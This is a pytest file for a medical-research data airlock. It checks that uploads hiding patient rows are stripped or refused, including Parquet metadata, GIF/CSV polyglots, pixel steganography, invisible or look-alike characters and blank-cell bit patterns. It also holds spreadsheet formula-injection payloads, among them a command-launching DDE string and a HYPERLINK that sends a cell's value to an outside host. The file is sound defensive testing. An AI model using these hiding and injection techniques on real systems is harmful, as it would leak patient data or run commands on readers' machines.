"""What is released is the airlock's own re-encoding of an upload, never the upload: each attack that hides
something in a file's container is tried through the request operation, the review and the real download, and
what comes out is asserted byte for byte."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import os
import re
import struct
import tempfile
import urllib.parse
import zipfile
import zlib

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from PIL import Image, UnidentifiedImageError

from paitient.channel import ChannelError, Peer
from paitient.rules import review
from paitient.services.airlock import weights
from paitient.services.airlock.canonical import Refused, canonical_output, xlsx_frame
from paitient.services.airlock.images import shown_pixels
from paitient.services.audit import trail_dir
from paitient.services.audit.query import newest_first
from tests.airlock.helpers import SECRET, figure_with_payload, png_chunks, submit, wait_state

CELLS = pd.DataFrame({"stage": ["I", "II"], "patients": [120, 48]})
CANONICAL_CSV = b"stage,patients\nI,120\nII,48\n"
HIDDEN = b"mrn,age,sex\n4711,87,F\n4712,91,M\n"


def trail(airlock, action: str) -> list[dict]:
    return [r for r in newest_first(trail_dir(airlock.site)) if r["action"] == action]


def parquet_with_hidden_rows() -> bytes:
    """CELLS as Parquet, with row-level data in the schema's key-value metadata and in a column's field
    metadata, where pandas never looks."""
    table = pa.Table.from_pandas(CELLS, preserve_index=False)
    field = table.schema.field("stage").with_metadata({b"rows": HIDDEN})
    schema = table.schema.set(0, field).with_metadata({**table.schema.metadata, b"notes": HIDDEN})
    buf = io.BytesIO()
    pq.write_table(table.cast(schema), buf)
    data = buf.getvalue()
    assert data.count(HIDDEN) >= 1 and pd.read_parquet(io.BytesIO(data)).equals(CELLS)
    return data


def gif_csv_polyglot() -> bytes:
    """One file, two readings: a 1x1 GIF (every byte below 0x80, so the whole file is UTF-8) and, after its
    trailer, a CSV of patients that pandas reads as rows."""
    gif = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0, 0, 0)  # no colour table: every byte ASCII
    gif += b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00;"  # clear, pixel 0, end
    return gif + b"\n" + HIDDEN


async def release(web, airlock, people, rid: str):
    wait_state(airlock, rid, review.IN_REVIEW)
    # Some of these tables fail content checks on purpose (a formula, patient rows): approve over them.
    why = "released here only to see the bytes that come out"
    assert (await web.decide_with("sam", rid, action="approve", comment="fine", override=why)).code == 303
    got = await web.fetch("alice", f"requests/{rid}/download")
    assert got.code == 200
    return got


async def test_rows_hidden_in_parquet_metadata_are_not_released(web, airlock, people):
    upload = parquet_with_hidden_rows()
    rid = submit(airlock, people, "alice", upload, name="stages.parquet")
    req = airlock.store.get(rid)
    assert req.filename == "stages.csv" and req.sha256 == hashlib.sha256(CANONICAL_CSV).hexdigest()
    got = await release(web, airlock, people, rid)
    # The released file holds the cells and nothing else: no metadata, no hidden rows, no Parquet.
    assert got.body == CANONICAL_CSV
    assert b"4711" not in got.body and not got.body.startswith(b"PAR1")
    assert got.headers["X-Airlock-SHA256"] == hashlib.sha256(got.body).hexdigest() == req.sha256
    assert got.headers["Content-Disposition"] == "attachment; filename*=UTF-8''stages.csv"
    # The upload's bytes are not kept at all; its hash is, in the request and the audit trail.
    assert not airlock.store.blob_path(hashlib.sha256(upload).hexdigest()).exists()
    made = [r for r in trail(airlock, "airlock.request") if r["object"] == rid][0]
    assert made["details"]["sha256"] == req.sha256 and made["details"]["form"] == "csv"
    assert made["details"]["upload_sha256"] == hashlib.sha256(upload).hexdigest()
    assert trail(airlock, "airlock.download")[0]["details"]["sha256"] == req.sha256
    # The steward was told what was left out, by count and size only.
    canonical = {c["check"]: c for c in airlock.store.checks(rid)}["canonical"]
    assert canonical["status"] == "pass" and "Parquet key-value metadata" in canonical["reason"]
    assert "4711" not in json.dumps(canonical)


async def test_a_table_asked_as_xlsx_is_written_from_its_cells(web, airlock, people):
    cells = pd.DataFrame({"stage": ["I", '=HYPERLINK("http://x")'], "patients": [120, 48]})
    table = pa.Table.from_pandas(cells, preserve_index=False)
    table = table.replace_schema_metadata({**table.schema.metadata, b"notes": HIDDEN})
    buf = io.BytesIO()
    pq.write_table(table, buf)
    rid = submit(airlock, people, "alice", buf.getvalue(), name="stages.parquet", format="xlsx")
    got = await release(web, airlock, people, rid)
    assert got.headers["Content-Disposition"] == "attachment; filename*=UTF-8''stages.xlsx"
    assert xlsx_frame(got.body).equals(cells)
    with zipfile.ZipFile(io.BytesIO(got.body)) as z:
        members = {n: z.read(n) for n in z.namelist()}
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert not any(b"4711" in body for body in members.values())
    assert not any(name.startswith("docProps/") for name in members)  # no author, no dates, no application
    sheet = members["xl/worksheets/sheet1.xml"]
    assert b"<f>" not in sheet  # the formula-looking cell is text
    # The checks judged the same cells (as CSV), and the same cells always give the same bytes.
    by = {c["check"]: c for c in airlock.store.checks(rid)}
    assert by["minimum_count"]["status"] == "pass" and by["canonical"]["details"]["form"] == "xlsx"
    again = canonical_output("table", "stages.parquet", buf.getvalue(), table_format="xlsx")
    assert again.data == got.body


FORMULAS = {
    '=HYPERLINK("http://x/?"&A2,"click")': b'"\'=HYPERLINK(""http://x/?""&A2,""click"")"',
    "+cmd|' /C calc'!A0": b"'+cmd|' /C calc'!A0",
    "-2+3": b"'-2+3",
    "@SUM(A1:A9)": b"'@SUM(A1:A9)",
    "\t=1+1": b"'=1+1",  # whitespace around a cell's text is dropped (a page does not show it): a formula
    "\r=1+1": b"'=1+1",
    "  =1+1": b"'=1+1",
    "-2": b"-2",  # text that is a plain number: a spreadsheet reads the number and runs nothing
    "Stage I": b"Stage I",
    "'quoted": b"'quoted",  # starts with a quote already: nothing runs
}
"""Text cells a spreadsheet would run, each with the CSV field the airlock releases for it."""


def as_released(text: str) -> str:
    """A text cell as the airlock releases it: no whitespace around it, a run of it one space."""
    return " ".join(text.split())


NUMBERS = [(-2, b"-2", -0.5, b"-0.5"), (-1, b"-1", -2.25, b"-2.25"), (0, b"0", 1e-3, b"0.001")]
"""Typed numbers beside them (negative ones too), with their CSV fields: they stay numbers."""


def formula_table() -> pd.DataFrame:
    n = len(FORMULAS)
    return pd.DataFrame(
        {
            "@risk": list(FORMULAS),  # a column name is text too
            "n": [NUMBERS[i % 3][0] for i in range(n)],
            "share": [NUMBERS[i % 3][2] for i in range(n)],
        }
    )


def formula_upload(form: str) -> tuple[bytes, str]:
    df = formula_table()
    if form == "parquet":
        buf = io.BytesIO()
        df.to_parquet(buf, index=False)
        return buf.getvalue(), "risks.parquet"
    return df.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode(), "risks.csv"  # numbers unquoted


@pytest.mark.parametrize("form", ["parquet", "csv"])
async def test_text_a_spreadsheet_would_run_is_released_quoted_and_numbers_stay_numbers(web, airlock, people, form):
    upload, name = formula_upload(form)
    rid = submit(airlock, people, "alice", upload, name=name)
    got = await release(web, airlock, people, rid)
    expected = b"'@risk,n,share\n" + b"".join(
        field + b"," + NUMBERS[i % 3][1] + b"," + NUMBERS[i % 3][3] + b"\n" for i, field in enumerate(FORMULAS.values())
    )
    assert got.body == expected
    # Cell by cell, as a spreadsheet's CSV import splits them.
    rows = list(csv.reader(io.StringIO(got.body.decode("utf-8"), newline="")))
    assert rows[0] == ["'@risk", "n", "share"]
    for i, (text, row) in enumerate(zip(FORMULAS, rows[1:], strict=True)):
        cell = as_released(text)
        runs = cell[:1] in "=+-@" and cell != "-2"
        assert row[0] == ("'" + cell if runs else cell)
        assert (int(row[1]), float(row[2])) == (NUMBERS[i % 3][0], NUMBERS[i % 3][2])  # numbers, unquoted
    # The steward is told how many were quoted; the checks judged the cells as written.
    by = {c["check"]: c for c in airlock.store.checks(rid)}
    assert by["canonical"]["details"]["quoted"] == 8
    assert "8 text cell(s) or column name(s) that a spreadsheet would run as a formula" in by["canonical"]["reason"]
    flagged = {c["value"] for c in by["labels"]["details"]["cells"]}
    runs = {"-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "=1+1"}
    assert runs <= flagged and not {"'" + v for v in runs} & flagged
    assert by["labels"]["details"]["headers"] == ["@risk"]
    # What a check before a request says of the same file.
    member = people.by_username("alice")
    with tempfile.NamedTemporaryFile() as f:
        f.write(upload)
        f.flush()
        fd = os.open(f.name, os.O_RDONLY)
        try:
            answer = airlock.op_check(
                Peer(pid=1, uid=member.uid, gid=65534), {"kind": "table", "filename": name, "project": "oncology"}, [fd]
            )
        finally:
            os.close(fd)
    checked = {c["check"]: c for c in answer["checks"]}
    assert checked["canonical"]["details"]["quoted"] == 8 and answer["sha256"] == hashlib.sha256(expected).hexdigest()


async def test_text_a_spreadsheet_would_run_is_typed_text_in_an_xlsx_without_a_quote(web, airlock, people):
    upload, name = formula_upload("parquet")
    rid = submit(airlock, people, "alice", upload, name=name, format="xlsx")
    got = await release(web, airlock, people, rid)
    ws = load_workbook(io.BytesIO(got.body)).active
    rows = list(ws.iter_rows())
    assert [(c.value, c.data_type) for c in rows[0]] == [("@risk", "s"), ("n", "s"), ("share", "s")]
    for i, (text, row) in enumerate(zip(FORMULAS, rows[1:], strict=True)):
        assert (row[0].value, row[0].data_type) == (as_released(text), "s")
        assert [(c.value, c.data_type) for c in row[1:]] == [(NUMBERS[i % 3][0], "n"), (NUMBERS[i % 3][2], "n")]
    with zipfile.ZipFile(io.BytesIO(got.body)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml") and b"<f " not in z.read("xl/worksheets/sheet1.xml")
    by = {c["check"]: c for c in airlock.store.checks(rid)}
    assert by["canonical"]["details"]["quoted"] == 0 and "single quote" not in by["canonical"]["reason"]


async def test_a_png_is_released_without_its_text_chunks_or_trailing_bytes(web, airlock, people):
    original, upload = figure_with_payload()
    rid = submit(airlock, people, "alice", upload, kind="figure", name="km.png")
    wait_state(airlock, rid, review.IN_REVIEW)
    preview = await web.fetch("sam", f"requests/{rid}/preview")
    got = await release(web, airlock, people, rid)
    kinds, trailing = png_chunks(got.body)
    assert set(kinds) == {b"IHDR", b"IDAT", b"IEND"} and trailing == b""
    assert SECRET.encode() not in got.body and b"age,sex" not in got.body
    assert Image.open(io.BytesIO(got.body)).tobytes() == shown_pixels(original).tobytes()
    # The reviewer saw exactly the bytes released.
    assert preview.body == got.body and got.headers["X-Airlock-SHA256"] == preview.headers["X-Preview-SHA256"]
    checks = {c["check"]: c for c in airlock.store.checks(rid)}
    assert checks["image"]["status"] == "pass"  # the stored PNG carries nothing beyond its pixels ...
    assert "1 tEXt block" in checks["canonical"]["reason"]  # ... and the steward is told what the upload did
    assert (
        "bytes after the end of the image" in checks["canonical"]["reason"]
        and SECRET not in checks["canonical"]["reason"]
    )


async def test_a_polyglot_is_released_only_as_its_declared_kind(web, airlock, people):
    poly = gif_csv_polyglot()
    # Both readings are real.
    with Image.open(io.BytesIO(poly), formats=["GIF"]) as im:
        im.load()
        assert im.size == (1, 1)
    rows = pd.read_csv(io.StringIO(poly.decode("utf-8")))
    assert len(rows) == 3 and "4711,87,F" in rows.to_csv(header=False)
    # As a figure (and as "other", which starts like an image) it is the pixels, and the rows are gone.
    for kind in ("figure", "other"):
        rid = submit(airlock, people, "alice", poly, kind=kind, name="plot.gif")
        got = await release(web, airlock, people, rid)
        assert got.body.startswith(b"\x89PNG") and png_chunks(got.body)[1] == b"" and b"4711" not in got.body
        with pytest.raises(UnicodeDecodeError):
            got.body.decode("utf-8")  # no CSV reading left
    # As a table it is the cells pandas parsed, re-written: the GIF reading is gone.
    rid = submit(airlock, people, "alice", poly, kind="table", name="plot.csv")
    got = await release(web, airlock, people, rid)
    assert got.body.startswith(b"index,GIF89a,") and got.body.endswith(b"\n4711,87,F\n4712,91,M\n")
    assert b"\x00" not in got.body and b"\x02\x02D\x01" not in got.body
    with pytest.raises(UnidentifiedImageError):
        Image.open(io.BytesIO(got.body))
    # A table whose re-written CSV would still start like an image is refused, saying what to change.
    with pytest.raises(ChannelError, match="its CSV start like an image or a Parquet file; rename that column"):
        submit(airlock, people, "alice", b"GIF89a,n\nx,1\n", kind="table", name="plot.csv")


async def test_a_table_behind_a_png_header_asked_as_a_figure_is_refused(airlock, people):
    upload = b"\x89PNG\r\n\x1a\n" + HIDDEN
    with pytest.raises(ChannelError, match="not a figure the airlock releases: it does not decode") as e:
        submit(airlock, people, "alice", upload, kind="figure", name="figure.png")
    assert e.value.code == "refused"
    assert airlock.store.list(username="alice") == []
    with pytest.raises(ChannelError, match="not a table the airlock releases: figure.png: neither Parquet nor UTF-8"):
        submit(airlock, people, "alice", upload, kind="table", name="figure.png")


async def test_a_figure_larger_than_a_steward_sees_at_full_size_is_refused_at_the_request(airlock, people):
    """A 7000x5000 bar chart was shown to the steward shrunk six times to fit the page, so a 300x1600 block of
    full-contrast noise in a corner (480,000 bits) looked like a grey legend patch and was approved. A steward
    now sees a figure at full size, and a figure may have at most ``[airlock] max_figure_side`` pixels a
    side (2000 by default); a larger one is refused at the request, as by ``airlock.check``, saying why."""
    side = airlock.settings.max_figure_side
    assert side == 2000
    rng = np.random.default_rng(7)
    pixels = np.full((500, side + 1, 3), 255, np.uint8)
    pixels[:300, :160] = rng.integers(0, 2, (300, 160, 1), np.uint8) * 255  # a block of bits
    buf = io.BytesIO()
    Image.fromarray(pixels).save(buf, "PNG")
    for kind in ("figure", "other"):
        with pytest.raises(ChannelError, match=rf"the figure is {side + 1}x500 pixels; .* at most {side} pixels") as e:
            submit(airlock, people, "alice", buf.getvalue(), kind=kind, name="bars.png")
        assert e.value.code == "refused"
    assert airlock.store.list(username="alice") == []
    # Tall as wide; and one pixel less on each side is a figure like any other.
    with pytest.raises(Refused, match="at most 2000 pixels wide and high"):
        canonical_output("figure", "bars.png", _png(side, side + 1), max_side=side)
    fits = canonical_output("figure", "bars.png", _png(side, side), max_side=side)
    assert Image.open(io.BytesIO(fits.data)).size == (side, side)


def _png(width: int, height: int) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (width, height), (255, 255, 255)).save(buf, "PNG")
    return buf.getvalue()


def test_text_is_released_normalised_and_binary_is_refused():
    out = canonical_output("other", "notes.txt", "\ufeffCafe\u0301\r\nline two\x1b[31m\u202e\n".encode())
    assert (out.form, out.filename, out.data) == ("text", "notes.txt", "Café\nline two[31m\n".encode())
    with pytest.raises(Refused, match="holds NUL bytes"):
        canonical_output("other", "x.bin", b"abc\x00def")
    with pytest.raises(Refused, match="byte 0 is not UTF-8"):
        canonical_output("other", "x.bin", b"\xff\xfe\xfa")


def test_table_cells_are_rewritten_exactly_and_odd_columns_refused():
    upload = 'stage,share,note\r\nI,0.39147771174750684,"a\u202eb\x07c"\r\nII,1e-1,plain\r\n'.encode()
    out = canonical_output("table", "t.csv", upload)
    assert out.data == b"stage,share,note\nI,0.39147771174750684,abc\nII,0.1,plain\n"
    indexed = io.BytesIO()
    CELLS.set_index("stage").to_parquet(indexed)  # the index carries the stages: it becomes a column
    assert canonical_output("table", "t.parquet", indexed.getvalue()).data == CANONICAL_CSV
    blob = io.BytesIO()
    CELLS.assign(raw=[b"\x00\x01", b"ab"]).to_parquet(blob)
    with pytest.raises(Refused, match="column 'raw' holds bytes values; .* convert or drop the column"):
        canonical_output("table", "t.parquet", blob.getvalue())
    with pytest.raises(Refused, match="format= goes with kind='table' only"):
        canonical_output("figure", "f.png", b"", table_format="xlsx")


def test_weights_are_reserialised_without_metadata():
    import torch
    from safetensors.torch import save

    tensors = {"z.weight": torch.ones(2, 3), "a.bias": torch.zeros(3, dtype=torch.float64)}
    upload = save(tensors, metadata={"notes": HIDDEN.decode()})
    out = canonical_output("weights", "model.safetensors", upload)
    (n,) = struct.unpack("<Q", out.data[:8])
    header = json.loads(out.data[8 : 8 + n])
    assert "__metadata__" not in header and HIDDEN not in out.data and sorted(header) == ["a.bias", "z.weight"]
    # Its hash is the canonical parameter hash the privacy ledger records, and re-encoding changes nothing.
    assert out.sha256 == weights.canonical_sha256(upload) == hashlib.sha256(out.data).hexdigest()
    assert canonical_output("weights", "model.safetensors", out.data).data == out.data
    with pytest.raises(Refused, match="torch.save's format"):
        canonical_output("weights", "model.pt", b"PK\x03\x04" + b"\0" * 64)


def test_the_service_refuses_a_format_for_anything_but_a_table(airlock, people):
    with pytest.raises(ChannelError, match="format= goes with kind='table' only and is one of csv, xlsx") as e:
        submit(airlock, people, "alice", b"hello\n", kind="other", name="n.txt", format="xlsx")
    assert e.value.code == "bad_request" and airlock.store.list(username="alice") == []


@pytest.mark.parametrize("table_format", ["csv", "xlsx"])
async def test_digits_the_checks_and_the_preview_never_read_are_not_released(web, airlock, people, table_format):
    """Text cells that read back as numbers: a zero-width space after a number of 70 digits makes it text in
    the upload, and once cleaned it would be written as those digits while the checks and the preview read
    120.0. What is released is what they read; so for Parquet's 'NA' text and a number's leading zeros."""
    pi = "120.0000000000000000000031415926535897932384626433832795028841971693993751"
    upload = f"stage,patients\nI,{pi}\u200b\nII,48.0\u200b\n".encode()
    args = {"format": "xlsx"} if table_format == "xlsx" else {}
    rid = submit(airlock, people, "alice", upload, name="stages.csv", **args)
    wait_state(airlock, rid, review.IN_REVIEW)
    page = (await web.fetch("sam", f"requests/{rid}")).body.decode()
    assert "<td>120.0</td>" in page and "31415" not in page
    got = await release(web, airlock, people, rid)
    if table_format == "xlsx":
        cells = [[c.value for c in row] for row in load_workbook(io.BytesIO(got.body)).active.iter_rows()]
        assert cells == [["stage", "patients"], ["I", 120.0], ["II", 48.0]]
    else:
        assert got.body == b"stage,patients\nI,120.0\nII,48.0\n"
    assert b"31415" not in got.body
    # A Parquet text column: 'NA' and leading zeros read back as nothing and as a number.
    table = pa.table({"stage": ["I", "II", "III"], "note": ["NA", "null", "#N/A"], "n": ["000120", "00048", "0011"]})
    buf = io.BytesIO()
    pq.write_table(table, buf)
    out = canonical_output("table", "t.parquet", buf.getvalue())
    assert out.data == b"stage,note,n\nI,,120\nII,,48\nIII,,11\n"


def patients_csv(n: int = 300) -> bytes:
    """A dataset's rows, as a kernel would pack them into a figure: pseudonym, age, a measurement."""
    rng = np.random.default_rng(7)
    rows = pd.DataFrame(
        {
            "patient": [f"P{rng.integers(10**9):09d}" for _ in range(n)],
            "age": rng.integers(20, 90, n),
            "mean_radius": rng.normal(14, 3.5, n).round(3),
        }
    )
    return rows.to_csv(index=False).encode()


def histogram_png(*, transparent: bool) -> bytes:
    """The histogram a researcher saves for a paper (matplotlib, Agg)."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(6, 4), dpi=100)
    ax.hist(np.random.default_rng(1).normal(14, 3.5, 500), bins=30)
    ax.set_xlabel("mean radius")
    ax.set_ylabel("patients")
    buf = io.BytesIO()
    fig.savefig(buf, format="png", transparent=transparent)
    plt.close(fig)
    return buf.getvalue()


def packed(payload: bytes) -> bytes:
    blob = zlib.compress(payload, 9)
    return len(blob).to_bytes(4, "big") + blob


def unpacked(data: bytes) -> bytes | None:
    """What :func:`packed` put into ``data``, or None when it no longer reads back."""
    n = int.from_bytes(data[:4], "big")
    try:
        return zlib.decompress(data[4 : 4 + n])
    except zlib.error:
        return None


async def test_a_dataset_under_a_figures_transparent_pixels_is_not_released(web, airlock, people):
    """A transparent figure's fully transparent pixels show nothing, whatever colour they hold: three bytes per
    pixel of a histogram carried a compressed dataset past a steward who saw a clean plot. The figure is
    released flattened onto white, as RGB: under the plot's background there is nothing left but white."""
    rows = patients_csv()
    px = np.array(Image.open(io.BytesIO(histogram_png(transparent=True))).convert("RGBA"))
    hidden = px[..., 3] == 0
    blob = packed(rows)
    assert len(blob) <= int(hidden.sum()) * 3  # the background alone holds the dataset
    rgb = px[..., :3][hidden].reshape(-1)
    rgb[: len(blob)] = np.frombuffer(blob, dtype=np.uint8)
    colours = px[..., :3].copy()
    colours[hidden] = rgb.reshape(-1, 3)
    px[..., :3] = colours
    buf = io.BytesIO()
    Image.fromarray(px, "RGBA").save(buf, "PNG")
    upload = buf.getvalue()
    assert unpacked(np.array(Image.open(io.BytesIO(upload)).convert("RGBA"))[..., :3][hidden].tobytes()) == rows

    rid = submit(airlock, people, "alice", upload, kind="figure", name="figure2.png")
    wait_state(airlock, rid, review.IN_REVIEW)
    preview = await web.fetch("sam", f"requests/{rid}/preview")
    got = await release(web, airlock, people, rid)
    assert got.body == preview.body  # the steward saw what leaves
    out = Image.open(io.BytesIO(got.body))
    assert out.mode == "RGB"  # no alpha channel, so no colour a screen does not show
    released = np.array(out)
    assert (released[hidden] == 255).all()  # every transparent pixel is the white it was shown on
    assert unpacked(released[hidden].tobytes()) is None and unpacked(released.tobytes()) is None
    # The plot itself is the one the steward was shown on a white page.
    shown = Image.alpha_composite(Image.new("RGBA", out.size, "white"), Image.open(io.BytesIO(upload)).convert("RGBA"))
    assert np.abs(released.astype(int) - np.array(shown.convert("RGB")).astype(int)).max() <= 3


async def test_a_dataset_in_a_figures_low_bits_is_not_released(web, airlock, people):
    """The lowest bit of each colour channel is a change of 1 in 255 nobody sees: a 600x400 histogram carried
    a compressed dataset in them. A released figure keeps 6 bits of each channel and repeats its high bits
    below them, so no low bit is free and the dataset does not read back from the download."""
    rows = patients_csv()
    px = np.array(Image.open(io.BytesIO(histogram_png(transparent=False))).convert("RGB"))
    bits = np.unpackbits(np.frombuffer(packed(rows), dtype=np.uint8))
    flat = px.reshape(-1)
    assert len(bits) <= flat.size
    flat[: len(bits)] = (flat[: len(bits)] & 0xFE) | bits
    buf = io.BytesIO()
    Image.fromarray(flat.reshape(px.shape)).save(buf, "PNG")
    upload = buf.getvalue()
    assert unpacked(np.packbits(np.array(Image.open(io.BytesIO(upload))).reshape(-1) & 1).tobytes()) == rows

    rid = submit(airlock, people, "alice", upload, kind="figure", name="figure2.png")
    got = await release(web, airlock, people, rid)
    released = np.array(Image.open(io.BytesIO(got.body)).convert("RGB")).astype(int)
    assert unpacked(np.packbits(released.reshape(-1) & 1).tobytes()) is None
    # Each channel's two low bits are its two high bits: nothing below them is the kernel's to choose.
    assert ((released & 3) == (released >> 6)).all()
    # The figure a reader sees: every channel within 3 of the upload's.
    assert np.abs(released - px.astype(int)).max() <= 3


INVISIBLE_NAMES = {
    "variation selectors": lambda b: chr(0xE0100 + b),
    "Hangul fillers": lambda b: "\u3164" if b & 1 else "\u115f",
    "braille blank and odd spaces": lambda b: "\u2800" if b & 1 else "\u2009",
    "look-alike letters": lambda b: "\u0430" if b & 1 else "a",
}


@pytest.mark.parametrize("how", INVISIBLE_NAMES)
async def test_a_file_name_leaves_as_the_steward_reads_it_character_for_character(web, airlock, people, how):
    """A file name is released in the download's Content-Disposition, its link and the JSON API. Characters
    a page shows as nothing, or as another letter, carried a patient's row in a name the steward read as
    ``figure.png``. Released names are ASCII letters, digits, ``._-`` and single spaces: the steward's page
    shows every character of the name that leaves, and the row is not in it."""
    row = b"P0000000042,61,13.205,548.2"
    bits = [(byte >> i) & 1 for byte in row for i in range(8)]
    hidden = "".join(map(INVISIBLE_NAMES[how], row if how == "variation selectors" else bits))
    name = "figure" + hidden + ".png"
    png = io.BytesIO()
    Image.new("RGB", (40, 30), (0, 88, 200)).save(png, "PNG")
    rid = submit(airlock, people, "alice", png.getvalue(), kind="figure", name=name)
    released_as = airlock.store.get(rid).filename
    assert re.fullmatch(r"[A-Za-z0-9._-]+( [A-Za-z0-9._-]+)*", released_as)
    if how in ("variation selectors", "Hangul fillers"):
        assert released_as == "figure_.png"  # nothing of the row is left in it
    else:  # what was a bit the page did not show is a character it does show: "_" or a single space
        assert "\u0430" not in released_as and released_as.startswith("figure") and "_" in released_as
    page = (await web.fetch("sam", f"requests/{rid}")).body.decode()
    shown = html.unescape(re.search(r'<dd id="filename">(.*?) \(', page, re.S).group(1))
    got = await release(web, airlock, people, rid)
    disposition = urllib.parse.unquote(got.headers["Content-Disposition"].split("''", 1)[1])
    api = json.loads((await web.fetch("alice", f"api/requests/{rid}")).body)
    assert shown == disposition == api["filename"] == released_as  # one name, seen whole and released
    assert len(released_as) <= 100 and "P0000000042" not in released_as
    # An ordinary name is released as it is written.
    rid = submit(airlock, people, "alice", png.getvalue(), kind="figure", name="Figure 2 - mean_radius.v3.png")
    assert airlock.store.get(rid).filename == "Figure 2 - mean_radius.v3.png"


async def test_an_empty_text_cell_and_a_missing_one_are_the_same_cell_in_an_xlsx(web, airlock, people):
    """The checks and the steward's preview read an XLSX table as its CSV, where a text cell "" and a missing
    cell are both nothing; the workbook wrote the first as a shared string and left the second out: a bit per
    blank cell (a pseudonym in the blank statistic columns of a "Table 1" sent as Parquet). Empty text is now
    released as no cell at all, and the bits do not read back from the download."""
    from openpyxl.utils import get_column_letter

    secret = b"P0000000042"
    bits = [(b >> i) & 1 for b in secret for i in range(8)]
    table = pd.DataFrame({"stage": ["I", "II", "III", "IV"] * 2, "n": [120, 48, 31, 17] * 2})
    per = len(table) - 1  # the last row of each column holds a label, keeping it a text column
    names = ["lower", "upper", "ci", "se", "sd", "rate", "ratio", "share", "pct", "proportion", "median"]
    names += ["mean", "min", "max"]
    assert len(names) * per >= len(bits)
    for j, name in enumerate(names):
        column = ["" if k < len(bits) and bits[k] else None for k in range(j * per, (j + 1) * per)]
        table[name] = pd.Series([*column, "All"], dtype="string")
    buf = io.BytesIO()
    table.to_parquet(buf)
    rid = submit(airlock, people, "alice", buf.getvalue(), name="table1.parquet", format="xlsx")
    wait_state(airlock, rid, review.IN_REVIEW)
    page = (await web.fetch("sam", f"requests/{rid}")).body.decode()
    got = await release(web, airlock, people, rid)
    with zipfile.ZipFile(io.BytesIO(got.body)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode()
    assert "<t></t>" not in strings and "<t/>" not in strings  # no empty text to point at
    read = []
    for j in range(len(names)):
        letter = get_column_letter(3 + j)
        read += [1 if re.search(rf'<c r="{letter}{r}"', sheet) else 0 for r in range(2, 2 + per)]
    assert sum(read) == 0  # every blank is the same: no cell
    assert bytes(sum(read[k * 8 + i] << i for i in range(8)) for k in range(len(read) // 8)) != secret
    # The steward saw blanks, and blanks is all the sheet holds there.
    assert "<td></td>" in page
    cells = [[c.value for c in row] for row in load_workbook(io.BytesIO(got.body)).active.iter_rows(min_row=2)]
    assert all(v is None for row in cells[:per] for v in row[2:]) and cells[per][2:] == ["All"] * len(names)


LOOK_ALIKES = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441", "x": "\u0445", "y": "\u0443"}
PROSE = (
    "We describe the cohort of the oncology project and the approach used to compare tumour measurements "
    "across age bands. The analysis uses open methods; the code is in the repository. "
) * 12
ROWS = b"P0000000042,61,13.205,548.2\nP0000000043,47,11.830,431.9\n"


def _bits(data: bytes) -> list[int]:
    return [(b >> i) & 1 for b in data for i in range(8)]


def _bytes(bits: list[int]) -> bytes:
    return bytes(sum(bits[k * 8 + i] << i for i in range(8)) for k in range(len(bits) // 8))


async def test_a_text_carries_no_bit_in_look_alike_letters_or_runs_of_spaces(web, airlock, people):
    """A text output (kind 'other') read as ordinary prose while each a, e, o, p, c, x or y was Latin or its
    Cyrillic look-alike, and each gap between words one space or two: about a bit per letter and per word, and
    two patients' rows in a methods section. A word that mixes scripts is refused at the request, saying why;
    spaces between words are released as one; the line and paragraph separators are line ends."""
    bits = _bits(ROWS)
    out, k = [], 0
    for ch in PROSE:
        if ch in LOOK_ALIKES and k < len(bits):
            out.append(LOOK_ALIKES[ch] if bits[k] else ch)
            k += 1
        else:
            out.append(ch)
    assert k == len(bits)
    with pytest.raises(ChannelError, match=r"word\(s\) of the text mix letters of different scripts") as e:
        submit(airlock, people, "alice", "".join(out).encode(), kind="other", name="methods.txt")
    assert e.value.code == "refused" and airlock.store.list(username="alice") == []

    words = (PROSE * 2).split(" ")
    assert len(words) > len(bits)
    gaps = "".join(w + ("  " if i < len(bits) and bits[i] else " ") for i, w in enumerate(words))
    text = gaps.replace(". ", ".\u2028", 3)
    rid = submit(airlock, people, "alice", text.encode(), kind="other", name="methods.txt")
    wait_state(airlock, rid, review.IN_REVIEW)
    shown = (await web.fetch("sam", f"requests/{rid}")).body.decode()
    got = (await release(web, airlock, people, rid)).body.decode()
    assert "  " not in got and "\u2028" not in got and got.count("\n") == 3
    found = [1 if gap == "  " else 0 for gap in re.findall(r"(?<=\S)( +)(?=\S)", got)]
    assert ROWS not in _bytes(found) and not any(found)
    assert html.escape(got.strip().split("\n")[0]) in shown  # the steward read it as it leaves
    # Prose in another script, and a Greek letter written apart, are ordinary text.
    # Prose in another script, and Greek letters no reader takes for Latin ones, as medicine writes them.
    fine_texts = (
        "Мы описываем когорту.",
        "The TNF-α and IL-6 levels; café, naïve, 東京 Tokyo.",
        "TNFα, IFNγ and β2-microglobulin; 10 μg and 5 \u00b5g daily.",
    )
    for fine in fine_texts:
        assert canonical_output("other", "t.txt", fine.encode()).data.decode() == fine
    for mixed in ("\u0410spirin was given", "the p\u03bfst-operative course", "ΤNFα levels"):  # Cyrillic А, Greek ο, Τ
        with pytest.raises(Refused, match="mix letters of different scripts"):
            canonical_output("other", "t.txt", mixed.encode())
    # A word written wholly in letters that look Latin: Cyrillic (a bit a word, whichever way it is written),
    # Greek capitals, mathematical bold, fullwidth.
    for whole in (
        "a \u0421\u043e\u0445 model",
        "\u0391\u0392 blood group",
        "\U0001d40f\U0001d41a\U0001d42d",
        "\uff30\uff41\uff54",
        "THE \ua4da\ua4f3\ua4e7\ua4f3\ua4e3\ua4d4 STUDY",  # Lisu, whose capitals are Latin ones: COHORT
        "\u2ca2\u2c9e\u2ca6",  # Coptic: POT
    ):
        with pytest.raises(Refused, match="written wholly in letters that look Latin and are not"):
            canonical_output("other", "t.txt", whole.encode())
